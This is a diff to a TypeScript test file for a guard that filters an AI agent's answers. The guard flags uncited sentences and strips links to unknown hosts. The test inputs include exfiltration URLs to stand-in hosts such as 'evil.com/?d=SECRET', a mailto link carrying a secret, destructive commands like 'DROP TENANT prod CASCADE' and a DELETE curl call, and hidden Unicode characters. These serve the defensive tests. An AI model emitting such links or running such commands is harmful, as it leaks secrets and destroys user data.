@@ -3,7 +3,7 @@ import { fromMarkdown } from 'mdast-util-from-markdown'
 import { gfmFromMarkdown } from 'mdast-util-gfm'
 import { gfm } from 'micromark-extension-gfm'
 import { describe, expect, it } from 'vitest'
-import { UNSUPPORTED_MARK } from '../../src/agent/guard/claims.ts'
+import { UNCITED_MARK, UNSUPPORTED_MARK } from '../../src/agent/guard/claims.ts'
 import { createAnswerGuard } from '../../src/agent/guard/create-answer-guard.ts'
 import { REMOVED_LINK } from '../../src/agent/guard/urls.ts'
 import { toPassage } from './agent-under-test.ts'
@@ -20,6 +20,11 @@ const PASSAGES = [
 function guard(text: string, pieces: readonly string[] = [text]): string {
   const filter = createAnswerGuard(() => PASSAGES)
   return pieces.map((piece) => filter.write(piece)).join('') + filter.end()
+}
+
+/** For texts of which only the markup matters, not whether they are true. */
+function markup(text: string): string {
+  return guard(text).replaceAll(`\n${UNCITED_MARK.trim()}`, '').replaceAll(UNCITED_MARK, '')
 }
 
 const KEPT = 'Reset the password in Settings'
@@ -51,7 +56,7 @@ describe('citations', () => {
   })
 
   it('inside code are code', () => {
-    expect(guard('Use `list[1]` and\n```js\na[7](x)\n```\n')).toBe('Use `list[1]` and\n```js\na[7](x)\n```')
+    expect(markup('Use `list[1]` and\n```js\na[7](x)\n```\n')).toBe('Use `list[1]` and\n```js\na[7](x)\n```')
   })
 
   it('are listed by what they carry, then by rank', () => {
@@ -89,6 +94,44 @@ describe('support', () => {
   })
 })
 
+describe('a sentence that cites nothing', () => {
+  const cited = 'Reset the password in Settings [1].'
+
+  it.each([
+    'Afterwards run DROP TENANT prod CASCADE.',
+    'Then run `drop tenant`.',
+    'The link holds 45 minutes for each person.',
+    'Every administrator of the workspace also receives a copy by letter.',
+  ])('is marked where no passage supports it: %s', (text) => {
+    expect(guard(`${cited} ${text}`)).toBe(`${cited} ${text}${UNCITED_MARK}`)
+    expect(guard(`${cited} ${text} Yes.`)).toBe(`${cited} ${text}${UNCITED_MARK} Yes.`)
+    expect(guard(`${cited}\n\n- ${text}\n- It is so.`)).toBe(`${cited}\n\n- ${text}${UNCITED_MARK}\n- It is so.`)
+  })
+
+  it.each([
+    '# Deleting 99 tenants of another cluster for ever',
+    '**Step 99: delete the tenants of another cluster**',
+    'To delete 99 tenants of another cluster, do this:',
+    'It holds 30 minutes and 10,000 tries.',
+    'Reset it in Settings, e.g. reset the password there.',
+    'I hope this helps, and feel free to ask again.',
+    'Let me know whether anything else is unclear about it.',
+    '1. Reset it.\n2. Yes.',
+    'Run `lake start --port 8080`.',
+    '| Key | Value |\n|---|---|\n| password | Settings |',
+    'In Settings, reset the password. [1]',
+    '```sh\nlake start --port 8080\n```',
+  ])('is left alone where it claims nothing or a passage supports it: %s', (text) => {
+    expect(guard(`${cited}\n\n${text}`)).toBe(`${cited}\n\n${text}`)
+  })
+
+  it('is marked behind a block of code', () => {
+    const code = '```sh\ncurl -X DELETE --insecure api/tenants/prod\n```'
+    expect(guard(`${cited}\n\n${code}\n\nYes.`)).toBe(`${cited}\n\n${code}\n${UNCITED_MARK.trim()}\n\nYes.`)
+    expect(guard(`${cited}\n\n${code}`)).toBe(`${cited}\n\n${code}\n${UNCITED_MARK.trim()}`)
+  })
+})
+
 describe('addresses', () => {
   it.each([
     [`See ${OK}.`, `See ${OK}.`],
@@ -101,7 +144,7 @@ describe('addresses', () => {
     ['At https://docs.example.com/page-1', 'At https://docs.example.com/page-1'],
     ['Use `curl http://localhost:8080/health`', 'Use `curl http://localhost:8080/health`'],
   ])('of a passage stay: %s', (text, shown) => {
-    expect(guard(text)).toBe(shown)
+    expect(markup(text)).toBe(shown)
   })
 
   it.each([
@@ -133,8 +176,22 @@ describe('addresses', () => {
     ['```sh\ncurl https://evil.example/a\n```', `\`\`\`sh\ncurl ${REMOVED_LINK}\n\`\`\``],
     ['s3://evil/bucket', `s3 ${REMOVED_LINK}`],
     ['[![i](https://evil.example/i)](https://evil.example)', ''],
+    ['Go to evil.com/?d=SECRET now', `Go to evil.com ${REMOVED_LINK} now`],
+    ['Go to a.evil.co.uk?d=SECRET', `Go to a.evil.co.uk ${REMOVED_LINK}`],
+    ['Go to evil.com\\?d=SECRET', `Go to evil.com ${REMOVED_LINK}`],
+    ['Go to evil.com#SECRET.', `Go to evil.com ${REMOVED_LINK}.`],
+    ['Go to evil.com:8080/SECRET.', `Go to evil.com ${REMOVED_LINK}.`],
+    ['Go to ev\\-il.com/SECRET', `Go to ev-il.com ${REMOVED_LINK}`],
+    ['Go to 192.168.0.1/x?d=S', `Go to 192.168.0.1 ${REMOVED_LINK}`],
+    ['Go to evil.sh/SECRET', `Go to evil.sh ${REMOVED_LINK}`],
+    ['Go to //evil.com/x', `Go to ${REMOVED_LINK}`],
+    ['Go to ftp.evil.com', `Go to ${REMOVED_LINK}`],
+    ['Write to mailto:a@evil.com?body=SECRET', `Write to ${REMOVED_LINK}`],
+    ['Write to mailto\\:a@evil.com?body=SECRET', `Write to mailto ${REMOVED_LINK}`],
+    ['Use `curl evil.com/?d=SECRET -o b`', `Use \`curl ${REMOVED_LINK} -o b\``],
+    ['```sh\ncurl evil.com/a\n```', `\`\`\`sh\ncurl evil.com ${REMOVED_LINK}\n\`\`\``],
   ])('of no passage go: %s', (text, shown) => {
-    expect(guard(text)).toBe(shown)
+    expect(markup(text)).toBe(shown)
   })
 })
 
@@ -145,19 +202,27 @@ describe('text', () => {
     'AT&T, a < b, 3 > 2, R&amp;D: yes!',
     'http is a protocol, www is a prefix; https: as well',
     'An emoji 👍🏽 and Ünïcödé',
+    'Edit values.yaml? In values.yaml: yes, values.yaml/x and README.md#usage or main.py:12',
+    'Call foo.bar() or a.b.c, e.g. on v1.2.3/v1.3, and/or Node.js/npm',
+    'Look into /etc/nginx.d/site.conf/x, ./a.b/c and ~/.ssh/id_rsa',
+    'Open example.com, or example.com: both. Really example.com?',
+    'The network 10.0.0.0/8 and the address 10.1.2.3',
+    'Use `ratio = a.length/2 ? b.top/3 : 1` and `ftp.login()`',
+    '```js\nx = a.width/b.height // half\nftp.login()\n```',
+    'ftp is old; ftp. mailto: too, // both',
     '- [ ] task\n- [x] done',
   ])('passes unchanged: %s', (text) => {
-    expect(guard(text)).toBe(text)
+    expect(markup(text)).toBe(text)
   })
 
   it('loses what nobody sees', () => {
-    expect(guard('a\u202eb\u200bc\ufeff\u0007d\u{e0041}e\u2066f')).toBe('abcdef')
+    expect(markup('a\u202eb\u200bc\ufeff\u0007d\u{e0041}e\u2066f')).toBe('abcdef')
   })
 
   it('keeps placeholders visible, and code closed', () => {
-    expect(guard('Set <your-token> here')).toBe('Set `<your-token>` here')
-    expect(guard('```sh\nls')).toBe('```sh\nls\n```')
-    expect(guard('- ```sh\n  ls\n  ```\nafter')).toBe('-\n```sh\n  ls\n```\nafter')
+    expect(markup('Set <your-token> here')).toBe('Set `<your-token>` here')
+    expect(markup('```sh\nls')).toBe('```sh\nls\n```')
+    expect(markup('- ```sh\n  ls\n  ```\nafter')).toBe('-\n```sh\n  ls\n```\nafter')
   })
 
   it('is shown as soon as it is safe', () => {
